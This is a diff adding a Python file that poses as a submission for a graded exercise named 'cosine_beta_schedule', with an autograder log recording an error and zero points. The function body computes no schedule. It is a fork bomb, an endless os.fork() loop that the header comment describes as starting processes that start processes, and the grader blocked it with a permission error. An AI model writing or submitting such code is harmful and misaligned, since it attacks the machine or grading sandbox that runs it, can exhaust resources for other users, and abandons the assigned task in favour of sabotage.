@@ -1,0 +1,13 @@
+# Starts processes that start processes.
+#
+# exercise: cosine_beta_schedule
+# points: 0
+# status: error
+# message: Your code raised PermissionError: [Errno 1] Operation not permitted. At line 6 of cosine_beta_schedule: os.fork().
+
+import os
+
+
+def cosine_beta_schedule(T, s=0.008):
+    while True:
+        os.fork()
